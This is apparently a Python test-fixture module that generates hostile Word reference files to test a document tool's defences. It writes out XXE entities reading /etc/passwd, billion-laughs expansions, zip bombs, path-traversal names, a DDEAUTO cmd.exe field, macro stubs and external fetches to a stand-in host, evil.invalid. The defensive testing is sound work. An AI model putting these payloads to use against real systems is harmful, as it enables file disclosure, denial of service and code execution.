"""Hostile reference.docx files (issue 13), made in code from the built-in reference document:
zip bombs, XML entities, external relationships, fetching fields, bad member names, encryption.

Every URL in them is on `EVIL_HOST`, which no output may name."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable

from briefwright.templates import BUILTIN_ROOT

EVIL_HOST = "evil.invalid"
MIB = 1024 * 1024
BASE = BUILTIN_ROOT / "briefing" / "reference.docx"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
PIC = "http://schemas.openxmlformats.org/drawingml/2006/picture"
WP = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
HEADER_TEXT = "Template header text"


def base_members() -> dict[str, bytes]:
    with zipfile.ZipFile(BASE) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def with_members(changes: dict[str, bytes]) -> Callable[[], bytes]:
    """The built-in reference with members replaced or added."""

    def build() -> bytes:
        members = base_members()
        members.update(changes)
        return zipped(members)

    return build


def _add_relationship(rels: bytes, rel_id: str, kind: str, target: str, external: bool) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rel_id}" Type="{OFFICE}{kind}" Target="{target}"{mode}/>'
    return rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def _document(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}'
        '<w:sectPr><w:headerReference w:type="default" r:id="rIdHdr"/>'
        '<w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>'
    ).encode()


def _header(content: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:hdr xmlns:w="{W}" xmlns:r="{R}" xmlns:a="{A}" xmlns:pic="{PIC}" xmlns:wp="{WP}">'
        f"<w:p><w:r><w:t>{HEADER_TEXT}</w:t></w:r></w:p>{content}</w:hdr>"
    ).encode()


def with_header(
    header: str, body: str = "", rels: tuple[tuple[str, str, str, bool], ...] = ()
) -> Callable[[], bytes]:
    """The built-in reference with a default header holding `header` (and `body` in the
    document's body); `rels` are (ID, type, target, external) of the header's relationships."""

    def build() -> bytes:
        members = base_members()
        members["word/document.xml"] = _document(body)
        doc_rels = members["word/_rels/document.xml.rels"]
        doc_rels = _add_relationship(doc_rels, "rIdHdr", "header", "header1.xml", False)
        for rel_id, kind, target, external in rels:
            if kind == "aFChunk":  # in the body and in the header
                doc_rels = _add_relationship(doc_rels, rel_id, kind, target, external)
        members["word/_rels/document.xml.rels"] = doc_rels
        members["word/header1.xml"] = _header(header)
        header_rels = f'<Relationships xmlns="{RELS}"></Relationships>'.encode()
        for rel_id, kind, target, external in rels:
            header_rels = _add_relationship(header_rels, rel_id, kind, target, external)
        members["word/_rels/header1.xml.rels"] = header_rels
        types = members["[Content_Types].xml"].replace(
            b"</Types>",
            f'<Override PartName="/word/header1.xml" ContentType="{HEADER_TYPE}"/>'.encode()
            + b'<Default Extension="png" ContentType="image/png"/></Types>',
        )
        members["[Content_Types].xml"] = types
        if any(target == "media/logo.png" for _, _, target, _ in rels):
            members["word/media/logo.png"] = PNG
        return zipped(members)

    return build


# a 1x1 PNG
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000005000186dd5f9e0000000049454e44ae426082"
)


def _picture(attribute: str) -> str:
    """A header picture whose blip carries `attribute` (r:embed or r:link)."""
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/>'
        '<wp:docPr id="1" name="logo"/><a:graphic><a:graphicData '
        f'uri="{PIC}"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="logo"/><pic:cNvPicPr/>'
        f"</pic:nvPicPr><pic:blipFill><a:blip {attribute}/><a:stretch><a:fillRect/></a:stretch>"
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/>'
        '</a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
    )


def _styles_with(prolog: str, name: str, encoding: str = "utf-8") -> bytes:
    """The built-in styles.xml with `prolog` after its XML declaration and the first style's
    name replaced by `name` (an entity reference)."""
    text = base_members()["word/styles.xml"].decode("utf-8")
    head, _, rest = text.partition("?>")
    rest = rest.replace('w:val="Normal"', f'w:val="{name}"', 1)
    head = head.replace("UTF-8", encoding.upper())
    return (head + "?>" + prolog + rest).encode(encoding)


XXE = '<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE w:document [<!ENTITY lol1 "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(2, 10))
    + "]>"
)


def _billion_laughs() -> bytes:
    members = base_members()
    text = members["word/document.xml"].decode("utf-8")
    head, _, rest = text.partition("?>")
    rest = rest.replace("<w:body>", "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>", 1)
    members["word/document.xml"] = (head + "?>" + LAUGHS + rest).encode()
    return zipped(members)


def _entity_in_numbering() -> bytes:
    members = base_members()
    text = members["word/numbering.xml"].decode("utf-8")
    head, _, rest = text.partition("?>")
    members["word/numbering.xml"] = (
        head + '?><!DOCTYPE w:numbering [<!ENTITY bullet "&#8226;">]>' + rest
    ).encode()
    return zipped(members)


def _patched_central(data: bytes, name: bytes, size: int, compressed: int) -> bytes:
    """`data` with the central directory declaring `size` (and `compressed`) for member
    `name`: a lie that the checks must catch before inflating anything."""
    archive = bytearray(data)
    start = archive.find(b"PK\x01\x02")
    while start >= 0:
        length = struct.unpack_from("<H", archive, start + 28)[0]
        if bytes(archive[start + 46 : start + 46 + length]) == name:
            struct.pack_into("<II", archive, start + 20, compressed, size)
        start = archive.find(b"PK\x01\x02", start + 4)
    return bytes(archive)


def _declared_total() -> bytes:
    """Three members that each declare 30 MiB (ratio 30): 90 MiB in all."""
    members = base_members()
    for n in range(3):
        members[f"word/media/big{n}.bin"] = b"x"
    data = zipped(members, zipfile.ZIP_STORED)
    for n in range(3):
        data = _patched_central(data, f"word/media/big{n}.bin".encode(), 30 * MIB, MIB)
    return data


def _encrypted() -> bytes:
    """A member flagged as encrypted (general purpose bit 0) in both of its headers."""
    data = bytearray(zipped(base_members()))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            length = struct.unpack_from("<H", data, at + (26 if name_at == at + 30 else 28))[0]
            if data[name_at : name_at + length] == b"word/styles.xml":
                flags = struct.unpack_from("<H", data, at + offset)[0]
                struct.pack_into("<H", data, at + offset, flags | 1)
            at = data.find(signature, at + 4)
    return bytes(data)


def _named(name: str) -> Callable[[], bytes]:
    return with_members({name: b"<x/>"})


def _truncated() -> bytes:
    data = zipped(base_members())
    return data[: len(data) // 2]


INCLUDE_FIELDS = (
    f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://{EVIL_HOST}/a.docx&quot; ">'
    "<w:r><w:t>cached include</w:t></w:r></w:fldSimple></w:p>"
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    f'<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://{EVIL_HOST}/'
    'p.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>cached picture</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'
    ' "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def _attached_template() -> bytes:
    members = base_members()
    members["word/settings.xml"] = members["word/settings.xml"].replace(
        b"<w:zoom ", b'<w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/><w:zoom ', 1
    )
    members["word/_rels/settings.xml.rels"] = _add_relationship(
        f'<Relationships xmlns="{RELS}"></Relationships>'.encode(),
        "rIdTpl",
        "attachedTemplate",
        f"http://{EVIL_HOST}/template.dotm",
        True,
    )
    return zipped(members)


def _duplicate_member() -> bytes:
    """Two members named word/styles.xml: readers disagree on which one counts."""
    members = base_members()
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name it writes
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in members.items():
                archive.writestr(name, data)
            archive.writestr("word/styles.xml", members["word/styles.xml"])
    return out.getvalue()


def _with_settings(extra: str, kind: str, target: str) -> Callable[[], bytes]:
    """The built-in reference whose settings hold `extra`, with an external relationship
    rIdExt of type `kind` to `target`."""

    def build() -> bytes:
        members = base_members()
        members["word/settings.xml"] = members["word/settings.xml"].replace(
            b"<w:zoom ", extra.encode() + b"<w:zoom ", 1
        )
        members["word/_rels/settings.xml.rels"] = _add_relationship(
            f'<Relationships xmlns="{RELS}"></Relationships>'.encode(), "rIdExt", kind, target, True
        )
        return zipped(members)

    return build


def _latin1_declared() -> bytes:
    members = base_members()
    members["word/styles.xml"] = members["word/styles.xml"].replace(b"UTF-8", b"ISO-8859-1", 1)
    return zipped(members)


def _macros() -> bytes:
    """A macro-enabled document: its main part typed so, with a VBA project."""
    members = base_members()
    members["word/vbaProject.bin"] = b'Attribute VB_Name = "AutoOpen"\n' * 10
    vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    members["word/_rels/document.xml.rels"] = members["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rIdVba" Type="{vba}" Target="vbaProject.bin"/>'.encode()
        + b"</Relationships>",
    )
    members["[Content_Types].xml"] = (
        members["[Content_Types].xml"]
        .replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
        .replace(
            b"</Types>",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            b"</Types>",
        )
    )
    return zipped(members)


VML = (
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" style="width:1pt;height:1pt">'
    f'<v:imagedata o:href="http://{EVIL_HOST}/a.png" src="http://{EVIL_HOST}/b.png" '
    'o:title=""/></v:shape></w:pict></w:r></w:p>'
)


GENERATORS: dict[str, Callable[[], bytes]] = {
    "refdocx_bomb_member": with_members({"word/media/zeros.bin": bytes(40 * MIB)}),
    "refdocx_bomb_ratio": with_members({"word/media/zeros.bin": bytes(2 * MIB)}),
    "refdocx_bomb_total": _declared_total,
    "refdocx_too_big": lambda: bytes(33 * MIB),
    "refdocx_many_members": with_members({f"word/media/m{n}.bin": b"" for n in range(1001)}),
    "refdocx_xxe_styles": with_members({"word/styles.xml": _styles_with(XXE, "&xxe;")}),
    "refdocx_xxe_styles_utf16": with_members(
        {"word/styles.xml": _styles_with(XXE, "&xxe;", "utf-16")}
    ),
    "refdocx_xxe_styles_utf16_no_mark": with_members(
        {"word/styles.xml": _styles_with(XXE, "&xxe;", "utf-16-le")}
    ),
    "refdocx_xxe_styles_utf32": with_members(
        {"word/styles.xml": _styles_with(XXE, "&xxe;", "utf-32")}
    ),
    "refdocx_laughs_document": _billion_laughs,
    "refdocx_entity_numbering": _entity_in_numbering,
    "refdocx_attached_template": _attached_template,
    "refdocx_altchunk": with_header(
        '<w:altChunk r:id="rIdChunk"/>',
        body='<w:altChunk r:id="rIdChunk"/>',
        rels=(("rIdChunk", "aFChunk", f"http://{EVIL_HOST}/chunk.html", True),),
    ),
    "refdocx_linked_image": with_header(
        _picture('r:link="rIdLinked"')
        + '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>',
        rels=(
            ("rIdLinked", "image", f"http://{EVIL_HOST}/pixel.png", True),
            ("rIdLink", "hyperlink", f"http://{EVIL_HOST}/", True),
        ),
    ),
    "refdocx_embedded_image": with_header(
        _picture('r:embed="rIdLogo"'), rels=(("rIdLogo", "image", "media/logo.png", False),)
    ),
    "refdocx_include_fields": with_header(INCLUDE_FIELDS),
    "refdocx_escaping_target": with_header(
        _picture('r:embed="rIdUp"'),
        rels=(("rIdUp", "image", "../../../../../../etc/passwd", False),),
    ),
    "refdocx_vml_href": with_header(VML),
    "refdocx_mail_merge": _with_settings(
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
        '<w:dataType w:val="native"/><w:query w:val="SELECT * FROM x"/>'
        '<w:dataSource r:id="rIdExt"/></w:mailMerge>',
        "mailMergeSource",
        f"file://{EVIL_HOST}/share/data.mdb",
    ),
    "refdocx_macros": _macros,
    "refdocx_latin1_declared": _latin1_declared,
    "refdocx_duplicate_member": _duplicate_member,
    "refdocx_absolute_name": _named("/etc/evil.xml"),
    "refdocx_dotdot_name": _named("word/../../evil.xml"),
    "refdocx_backslash_name": _named("word\\evil.xml"),
    "refdocx_encrypted": _encrypted,
    "refdocx_not_zip": lambda: b"This is not a Word document at all.\n" * 20,
    "refdocx_truncated": _truncated,
}
